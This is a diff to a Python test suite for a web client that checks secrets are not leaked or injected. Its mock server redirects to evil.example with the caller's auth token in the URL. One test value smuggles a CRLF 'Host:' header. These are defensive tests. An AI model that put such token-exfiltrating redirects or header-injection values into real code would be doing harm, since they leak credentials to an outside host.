@@ -50,13 +50,21 @@ class Handler(BaseHTTPRequestHandler):
                 self.end_headers()
             case "/busy":
                 self.answer(503, b"")
-            case _:
-                self.answer(404, b"")
+            case path:
+                self.echo({"/echo": 302, "/reason": 403}.get(path, 404))
 
     def do_POST(self) -> None:
         body = self.rfile.read(int(self.headers["Content-Length"]))
         self.posted.append((body, self.headers["webhook-id"]))
         self.answer(204 if self.path == "/hook" else 500, b"")
+
+    def echo(self, status: int) -> None:
+        """Say back what the caller proved itself by."""
+        token = self.headers["X-Auth-Token"]
+        self.send_response(status, f"{token} may not")
+        self.send_header("Location", f"https://evil.example/?token={token}")
+        self.send_header("Content-Length", "0")
+        self.end_headers()
 
     def answer(self, status: int, body: bytes) -> None:
         self.send_response(status)
@@ -138,6 +146,27 @@ def test_a_secret_is_read_from_the_environment_or_asked_for_by_its_name(web: Web
         web.secret("OTHER_KEY")
 
 
+def test_the_end_of_line_that_a_file_of_secrets_has_is_not_the_secrets() -> None:
+    assert WebClient({"SHOP_KEY": "k\n"}).secret("SHOP_KEY") == "k"
+
+
+@pytest.mark.parametrize("value", ["a key\r\nHost: evil.example", "schl\u00fcssel-des-ladens"])
+def test_a_secret_that_no_header_can_hold_is_refused_without_being_named(value: str) -> None:
+    with pytest.raises(Stop, match="SHOP_KEY holds characters") as refusal:
+        WebClient({"SHOP_KEY": value}).secret("SHOP_KEY")
+    assert value[-8:] not in str(refusal.value)
+
+
+@pytest.mark.parametrize("path", ["/echo", "/reason"])
+def test_a_server_that_says_our_secret_back_does_not_make_us_tell_it(web: WebClient, place: str, path: str) -> None:
+    with pytest.raises(Drop) as refusal:
+        web.fetch(f"http://{place}{path}", HERE, {"X-Auth-Token": "Bearer canary-of-a-shop"})
+    assert "[hidden]" in str(refusal.value)
+    assert "canary" not in str(refusal.value)
+    assert refusal.value.__cause__ is None
+    assert refusal.value.__suppress_context__
+
+
 def test_buckets_are_read_by_a_deployment_only(web: WebClient) -> None:
     with pytest.raises(Drop, match="gs:// addresses are read by a deployment"):
         web.fetch("gs://bucket/photo.jpg", HERE)
@@ -156,6 +185,9 @@ def test_buckets_are_read_by_a_deployment_only(web: WebClient) -> None:
         ("https://cdn.example/a b", "is no address"),
         ("https://cdn.exämple/x", "is no address"),
         ("https://[::1]/x", "not among those allowed"),
+        ("https://a^.shop.example/x", "no plain name"),
+        ("https://a%2e.shop.example/x", "no plain name"),
+        ("https://a;b.shop.example/x", "no plain name"),
         ("https:///x", "only https"),
         ("", "only https"),
     ],
